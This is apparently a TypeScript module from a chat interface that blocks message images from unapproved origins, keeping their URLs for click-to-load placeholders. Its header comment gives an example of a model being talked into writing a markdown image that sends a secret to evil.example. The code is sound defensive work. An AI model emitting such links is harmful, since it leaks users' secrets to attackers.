/**
 * `image-sources`: which origins a message's images may be loaded from.
 * A model can be talked into writing `![](https://evil.example/?q=<secret>)`;
 * the browser calls that host the moment the image exists. So a blocked
 * image never gets its URL: `blockImages` moves each loading URL an element
 * has into a `data-blocked-*` attribute, on the sanitizer's inert tree,
 * before the element is ever created in the page's document. The list then
 * shows a click-to-load placeholder in its place (image-placeholder.ts).
 * DOM-free apart from reading and writing an element's attributes. The
 * policy itself, read from the attribute, is in `image-sources.ts`: the
 * page bundle needs it before any message, this module only with one.
 */
import {originOf, type ImagePolicy} from './image-sources.js';

export {allImages, imagePolicy, type ImagePolicy} from './image-sources.js';

/** The attributes that make an element load a URL by itself, by element. */
const loadingAttributes: Record<string, readonly string[]> = {
  img: ['src'],
  video: ['src', 'poster'],
  audio: ['src'],
  source: ['src'],
  track: ['src'],
  // SVG
  image: ['href', 'xlink:href'],
  feimage: ['href', 'xlink:href'],
};

/** The prefix of the attribute a blocked URL is kept in, for the click that loads it. */
export const blockedPrefix = 'data-blocked-';

/** True when `url` may be loaded under `policy`. */
export function imageAllowed(url: string, policy: ImagePolicy): boolean {
  if (policy.all) return true;
  const trimmed = url.trim();
  if (/^(?:data|blob):/i.test(trimmed)) return true;
  const origin = originOf(trimmed, policy.base);
  return origin !== undefined && policy.origins.has(origin);
}

/**
 * Takes from `element` every URL it would load that `policy` does not
 * allow, keeping each in `data-blocked-<attribute>`. An SVG presentation
 * attribute naming another document (`fill="url(https://…)"`) is removed.
 * Returns true when something was blocked.
 */
export function blockImages(element: Element, policy: ImagePolicy): boolean {
  if (policy.all) return false;
  let blocked = false;
  for (const name of loadingAttributes[element.localName.toLowerCase()] ?? []) {
    const url = element.getAttribute(name);
    if (url === null || imageAllowed(url, policy)) continue;
    element.removeAttribute(name);
    element.setAttribute(blockedPrefix + name.replace(':', '-'), url);
    blocked = true;
  }
  if (element.namespaceURI === 'http://www.w3.org/2000/svg') {
    for (const {name, value} of [...element.attributes]) {
      if (/url\(\s*['"]?\s*[^\s'"#)]/i.test(value)) element.removeAttribute(name);
    }
  }
  return blocked;
}

/** Puts back the URLs `blockImages` took from `element`. */
export function unblockImages(element: Element): void {
  for (const {name, value} of [...element.attributes]) {
    if (!name.startsWith(blockedPrefix)) continue;
    element.removeAttribute(name);
    // `xlink:href` comes back as `href`, which SVG reads as well (an attribute named `xlink:href` set here would have no namespace).
    element.setAttribute(name.slice(blockedPrefix.length).replace(/^xlink-/, ''), value);
  }
}

/** The first blocked URL in `element` (or itself), for the placeholder to name its host. */
export function blockedUrl(element: Element): string | undefined {
  for (const node of [element, ...element.querySelectorAll('*')]) {
    for (const {name, value} of node.attributes) if (name.startsWith(blockedPrefix)) return value;
  }
  return undefined;
}

/** The host a placeholder names: the URL's host, or the URL itself when it has none. */
export function hostOf(url: string, base: string): string {
  try {
    return new URL(url, base).host || url;
  } catch {
    return url;
  }
}
